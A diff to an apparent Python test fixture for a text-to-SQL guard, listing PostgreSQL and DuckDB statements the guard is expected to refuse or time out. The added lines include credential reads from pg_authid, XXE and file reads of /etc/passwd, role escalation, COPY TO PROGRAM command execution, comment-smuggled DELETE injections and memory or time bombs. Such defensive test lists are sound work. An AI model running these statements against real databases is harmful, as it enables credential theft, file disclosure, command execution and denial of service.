@@ -1,15 +1,18 @@
-"""Statements that would change something, reach beyond the data, or hold the server: by kind and guarantee.
-
-``CONNECTION`` says what stops a statement should the check not be there: ``refused`` by the database,
-``stopped`` at the time limit, or ``harmless`` (it runs, and changes nothing that outlives it).
-"""
+"""Statements that would change something, reach beyond the data, or hold the server."""
 
 from __future__ import annotations
 
-from collections.abc import Iterator, Mapping, Sequence
+from collections.abc import Iterator, Mapping
 
-REFUSED, STOPPED, HARMLESS = "refused", "stopped", "harmless"
-Attacks = Mapping[str, Mapping[str, Sequence[str]]]
+from tests.plugins.text2sql.databases.attack_outcomes import (
+    CHECKED,
+    ENDLESS,
+    HARMLESS,
+    REFUSED,
+    STOPPED,
+    Attacks,
+)
+from tests.plugins.text2sql.databases.sqlite_attacks import SQLITE
 
 WRITING = (
     "INSERT INTO categories VALUES (99, 'x', 'y')",
@@ -114,6 +117,57 @@ POSTGRESQL: Attacks = {
             "ANALYZE customers",
             "CLUSTER",
             "REINDEX TABLE customers",
+            "TABLE secret",
+            "SELECT * FROM shop.public.secret",
+            "SELECT * FROM template1.pg_catalog.pg_authid",
+            "SELECT (SELECT rolpassword FROM pg_catalog.pg_authid LIMIT 1)",
+            "SELECT * FROM pg_hba_file_rules",
+            "SELECT * FROM pg_largeobject",
+            "SELECT xpath('/a', '<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>')",
+            "SELECT cursor_to_xml('answer', 10, true, true, '')",
+            "SELECT pg_catalog.\"set_config\"('role', 'postgres', false)",
+            "SELECT lo_open(4711, 131072)",
+            "SELECT lowrite(0, 'x')",
+            "SELECT ts_stat('SELECT sell()')",
+        ),
+        "functions in every place": (
+            "SELECT SELL()",
+            'SELECT public . "sell" /* */ ()',
+            "SELECT * FROM ROWS FROM (sell(), generate_series(1, 2))",
+            "SELECT * FROM sell() WITH ORDINALITY",
+            "SELECT * FROM orders, LATERAL (SELECT sell()) AS x",
+            "SELECT 1 LIMIT sell()",
+            "SELECT 1 ORDER BY sell()",
+            "SELECT count(*) FILTER (WHERE sell() = 1) FROM orders",
+            "SELECT sum(sell()) OVER () FROM orders",
+            "SELECT ARRAY[sell()]",
+            "SELECT ROW(sell())",
+            "SELECT (sell())::text",
+            "SELECT XMLELEMENT(NAME a, sell())",
+            "SELECT concat(VARIADIC ARRAY[sell()::text])",
+            "SELECT DISTINCT ON (sell()) 1",
+            "SELECT 1 GROUP BY GROUPING SETS ((sell()))",
+            "SELECT 1 FROM orders JOIN customers ON sell() = 1",
+        ),
+        "quotes and comments": (
+            "SELECT $$x$$; DELETE FROM reviews",
+            "SELECT $x$ $y$ $x$, sell() --$y$",
+            "SELECT '\\'; DELETE FROM reviews; --'",
+            "SELECT E'\\\\'; DELETE FROM reviews; --'",
+            "SELECT 1 /* /* */ */ ; DELETE FROM reviews",
+            "SELECT 1) AS a, (SELECT sell()",
+            "DECLARE x CURSOR WITH HOLD FOR SELECT 1",
+            "CLOSE ALL",
+            "DISCARD ALL",
+            "ABORT; BEGIN; DELETE FROM reviews; COMMIT",
+            "START TRANSACTION READ WRITE",
+            "COPY (SELECT 1) TO PROGRAM 'id'",
+        ),
+        "memory": (
+            "SELECT lpad('x', 1000000000)",
+            "SELECT array_agg(repeat('x', 1000)) FROM generate_series(1, 2000)",
+            "SELECT jsonb_agg(g) FROM generate_series(1, 50000) AS g",
+            f"SELECT jsonb('{'[' * 5000}{']' * 5000}')",
         ),
     },
     STOPPED: {
@@ -136,6 +190,14 @@ POSTGRESQL: Attacks = {
             "SELECT 1 LIMIT (SELECT 1 FROM pg_sleep(1000))",
         )
     },
+    ENDLESS: {
+        "time": (
+            "SELECT count(*) FROM generate_series(1, 100000000000)",
+            "SELECT count(*) FROM order_items a, order_items b, order_items c, order_items d",
+            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n",
+        )
+    },
+    CHECKED: {"memory": ("SELECT repeat('x', 1000000000)", "SELECT length(repeat('x', 900000000))")},
     HARMLESS: {
         "settings": (
             "SELECT set_config('statement_timeout', '0', false)",
@@ -224,6 +286,41 @@ DUCKDB: Attacks = {
             "PREPARE p AS SELECT 1",
             "EXECUTE p",
             "SELECT * FROM python_variable",
+            "ALTER DATABASE shop RENAME TO x",
+            "PRAGMA memory_limit='100GB'",
+            "PRAGMA threads=8",
+            "SET GLOBAL enable_external_access = true",
+            "RESET GLOBAL enable_external_access",
+            "CREATE PERSISTENT SECRET (TYPE s3)",
+            "FORCE INSTALL httpfs FROM 'http://x'",
+            "CALL force_checkpoint()",
+            "COPY FROM DATABASE shop TO memory",
+        ),
+        "files under other names": (
+            "SUMMARIZE '/etc/passwd'",
+            "PIVOT '/etc/passwd' ON a",
+            "SELECT * FROM \"read_csv\"('/etc/passwd')",
+            "SELECT * FROM system.main.read_csv_auto('/etc/passwd')",
+            "SELECT * FROM customers, '/etc/passwd'",
+            "WITH x AS (FROM '/etc/passwd') SELECT * FROM x",
+            "SELECT 1 WHERE EXISTS (FROM read_blob('/etc/passwd'))",
+            "SELECT ('PATH').getenv()",
+            "SELECT list_transform(['PATH'], lambda x: getenv(x))",
+            "SELECT [getenv(x) for x in ['PATH']]",
+            "SELECT * REPLACE (getenv('PATH') AS id) FROM customers",
+            "SELECT COLUMNS(lambda c: getenv(c) IS NULL) FROM customers",
+            "SELECT * FROM read_ndjson_objects('/tmp/x.json')",
+            "SELECT * FROM st_read('/tmp')",
+            "SELECT * FROM sql_auto_complete('SEL')",
+            "SELECT * FROM seq_scan('customers')",
+            "FROM memory.main.customers",
+            "SET VARIABLE x = (SELECT content FROM read_text('/etc/passwd'))",
+        ),
+        "quotes and comments": (
+            "SELECT $$;$$; DELETE FROM reviews",
+            "SELECT 1 /* /* */ */ ; DELETE FROM reviews",
+            "SELECT '\\'; DELETE FROM reviews; --'",
+            "SELECT 1) AS a, (SELECT 2",
         ),
     },
     STOPPED: {
@@ -233,6 +330,26 @@ DUCKDB: Attacks = {
             "SELECT 1 -- \r, sleep_ms(100000000)",
             "SELECT $a$ ' $a$, sleep_ms(100000000) --'",
             "SELECT 1 WHERE sleep_ms(100000000) IS NULL",
+        )
+    },
+    ENDLESS: {
+        "time": (
+            "SELECT sum(i % 7) FROM range(1000000000000000) AS t(i)",
+            "SELECT sum(a.quantity * b.quantity + c.quantity) FROM order_items a, order_items b, "
+            "order_items c",
+            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n",
+        )
+    },
+    CHECKED: {
+        "memory": (
+            "SELECT repeat('x', 1000000000)",
+            "SELECT 'x'.repeat(4000000000)",
+            "SELECT lpad('x', 1000000000, 'y')",
+            "SELECT list_resize([1], 1000000000)",
+            "SELECT bitstring('1', 1000000000)",
+            "SELECT range(100000000)",
+            "SELECT count(*) FROM (SELECT unnest(range(3000000000)))",
+            "SELECT list_transform(generate_series(1, 100000000), lambda x: x + 1)",
         )
     },
     HARMLESS: {
@@ -248,10 +365,22 @@ DUCKDB: Attacks = {
             "SELECT table_name FROM information_schema.tables",
             "SELECT * FROM sqlite_master",
             "SELECT setseed(0.5)",
+            "FROM main.sqlite_master",
+            "FROM system.main.duckdb_tables",
+            "SELECT * FROM (SHOW DATABASES)",
+            "SELECT * FROM (SHOW TABLES)",
+            "SELECT * FROM (DESCRIBE customers)",
+            "SELECT * FROM (SUMMARIZE customers)",
+            "SUMMARIZE customers",
+            "FROM pg_catalog.pg_class",
+            "FROM temp.information_schema.tables",
+            "SELECT getvariable('x')",
+            "SELECT current_query()",
+            "FROM summary((FROM customers))",
         )
     },
 }
-TABLE: Mapping[str, Attacks] = {"postgresql": POSTGRESQL, "duckdb": DUCKDB}
+TABLE: Mapping[str, Attacks] = {"sqlite": SQLITE, "postgresql": POSTGRESQL, "duckdb": DUCKDB}
 
 
 def listed(table: Mapping[str, Attacks]) -> Iterator[tuple[str, str, str, str]]:
